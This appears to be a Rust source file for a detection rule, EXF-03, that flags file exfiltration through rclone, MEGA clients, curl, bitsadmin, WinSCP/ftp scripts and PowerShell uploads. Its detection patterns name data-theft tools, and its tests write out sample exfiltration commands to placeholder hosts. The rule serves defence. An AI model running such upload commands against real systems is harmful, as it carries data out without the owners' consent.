//! EXF-03: a tool that carries files out is run.
//!
//! Sees: rclone, MEGA's, WinSCP's and similar clients with arguments that copy or send; uploads by curl, bitsadmin, ftp scripts and PowerShell.
//! Why: the data leaves now.
//! Benign causes: backup to clouds, deployment and support that upload by script.
//! Sources: published intrusions; the tools' own manuals; ATT&CK T1567.002, T1048.003.

use super::deeds::Folded;
use super::meta::{Key, Level, Meta, Threshold};
use super::script_blocks::{self, blocks};
use super::starts::{self, command, names, quote};
use super::{Cx, Hit, KeyRows, Signal};
use crate::knowledge::programs::SHELLS;
use crate::lake::frame::Row;
use crate::rules::cmdline::tokenize;
use crate::schema::{process as t, script};

/// See the module.
pub struct Exf03;

static META: Meta = Meta {
    id: "EXF-03",
    title: "Exfiltration tool",
    sees: "rclone, MEGA, WinSCP and similar clients with arguments that copy or send; uploads by curl, bitsadmin, ftp scripts or PowerShell.",
    why: "The data leaves now.",
    techniques: &["T1567.002", "T1048.003", "T1048", "T1567"],
    stage: "exfiltration",
    family: "exfiltration",
    key: Key::Host,
    reads: script_blocks::WITH_STARTS,
    level: Level::Medium,
    decisive: false,
    thresholds: &[Threshold {
        name: "client_quality",
        value: 0.6,
        unit: "quality of a file-transfer client",
        source: "[J] ordinary administrators use them",
    }],
    benign: &["backup to clouds", "deployment and support that upload by script"],
};

/// How a command carries files out: ATT&CK id, what it is, and whether ordinary administrators do the same.
type Way = (&'static [&'static str], &'static str, bool);

impl Signal for Exf03 {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn scan(&self, cx: &Cx<'_>, rows: &KeyRows<'_>, hits: &mut Vec<Hit>) {
        let mut found = Folded::default();
        for row in starts::starts(rows.table(&t::TABLE)) {
            let Some((techniques, what, ordinary)) = way(row) else {
                continue;
            };
            let mut hit = Hit::at(&META, row, what, format!("{what}: {}", command(row)))
                .quality(if ordinary {
                    cx.number(&META, "client_quality")
                } else {
                    1.0
                })
                .techniques(techniques);
            hit.iocs = starts::iocs(row);
            found.add(hit);
        }
        for block in blocks(rows.table(&script::TABLE)) {
            if let Some((techniques, what, _)) = by_script(&block.text) {
                let mut hit = Hit::at(
                    &META,
                    block.row,
                    what,
                    format!("{what} in a script: {}", quote(&block.text)),
                )
                .techniques(techniques);
                hit.iocs = starts::urls(&block.text);
                found.add(hit);
            }
        }
        hits.extend(found.into_hits());
    }
}

fn way(row: Row<'_>) -> Option<Way> {
    let line = row.str(t::CMDLINE);
    let lower = line.to_lowercase();
    let words: Vec<String> = tokenize(line).into_iter().skip(1).collect();
    let has = |set: &[&str]| words.iter().any(|w| set.contains(&w.to_lowercase().as_str()));
    let (image, original) = names(row);
    let is = |name: &str| image == name || original == name;
    // rclone is often renamed: its arguments tell it.
    let remote = words.iter().any(|w| {
        w.split_once(':')
            .is_some_and(|(r, _)| r.len() > 1 && !r.contains(['\\', '/', '-', '=']))
    });
    if has(&["copy", "sync", "move", "copyto", "mount"]) && (is("rclone") || remote && lower.contains("--transfers")) {
        return Some((&["T1567.002"], "rclone copies files to a cloud", false));
    }
    if ["megacmd", "megacopy", "mega-put", "megaclient", "megatools"]
        .iter()
        .any(|n| is(n))
        && !words.is_empty()
    {
        return Some((&["T1567.002"], "a MEGA client is used", false));
    }
    if is("curl")
        && (has_exactly(&words, &["-T", "--upload-file", "-F", "--form"])
            || lower.contains("--data-binary @")
            || lower.contains("-d @"))
    {
        return Some((&["T1048.003"], "curl sends a file", false));
    }
    if is("bitsadmin") && lower.contains("/upload") {
        return Some((&["T1048"], "bitsadmin sends a file", false));
    }
    if (is("winscp") || is("psftp") || is("ftp") || is("sftp"))
        && (lower.contains("/command") || lower.contains("/script") || lower.contains("-s:") || lower.contains(" -b "))
    {
        return Some((&["T1048.003"], "a file-transfer client runs a script", true));
    }
    if is("pscp") && words.iter().any(|w| w.contains(":/") || w.contains('@')) {
        return Some((&["T1048"], "pscp copies files", true));
    }
    starts::is_one_of(row, SHELLS).then(|| by_script(line)).flatten()
}

/// Words that are exactly one of these, upper and lower case told apart.
fn has_exactly(words: &[String], flags: &[&str]) -> bool {
    words.iter().any(|w| {
        flags.contains(&w.as_str())
            || flags
                .iter()
                .any(|f| f.len() == 2 && w.len() > 2 && w.starts_with(f) && w.contains('@'))
    })
}

/// An upload by PowerShell.
fn by_script(text: &str) -> Option<Way> {
    let lower = text.to_lowercase();
    let request = ["invoke-restmethod", "invoke-webrequest", "irm ", "iwr "]
        .iter()
        .any(|c| lower.contains(c));
    let sends = lower.contains("-infile") || lower.contains("-method put") && lower.contains("-body");
    if request && sends {
        return Some((&["T1048.003"], "PowerShell sends a file", false));
    }
    let client = [".uploadfile(", ".uploadfileasync(", ".uploaddata(", ".uploadstring("]
        .iter()
        .any(|c| lower.contains(c));
    if client && (lower.contains("webclient") || lower.contains("ftp")) {
        return Some((&["T1048.003"], "a web client sends data", false));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signals::starts::testing::hits_of;

    fn hits(image: &str, line: &str) -> usize {
        hits_of(&Exf03, image, "cmd.exe", line).len()
    }

    #[test]
    fn copies_and_uploads_fire() {
        assert_eq!(hits("rclone.exe", r"rclone copy D:\ mega:x"), 1);
        assert_eq!(
            hits("svchost.exe", r"svchost.exe copy D:\data remote:x --transfers 20"),
            1
        );
        assert_eq!(hits("curl.exe", "curl -T a.zip https://file.example/up"), 1);
        assert_eq!(
            hits(
                "bitsadmin.exe",
                "bitsadmin /transfer j /upload https://x.example/a a.zip"
            ),
            1
        );
        assert_eq!(
            hits(
                "powershell.exe",
                "powershell irm -Uri https://x.example -Method Post -InFile a.zip"
            ),
            1
        );
    }

    #[test]
    fn versions_downloads_and_lists_stay_quiet() {
        assert_eq!(hits("rclone.exe", "rclone version"), 0);
        assert_eq!(hits("curl.exe", "curl https://example.com"), 0);
        assert_eq!(hits("curl.exe", "curl -f -t https://example.com"), 0);
        assert_eq!(hits("bitsadmin.exe", "bitsadmin /list"), 0);
    }
}
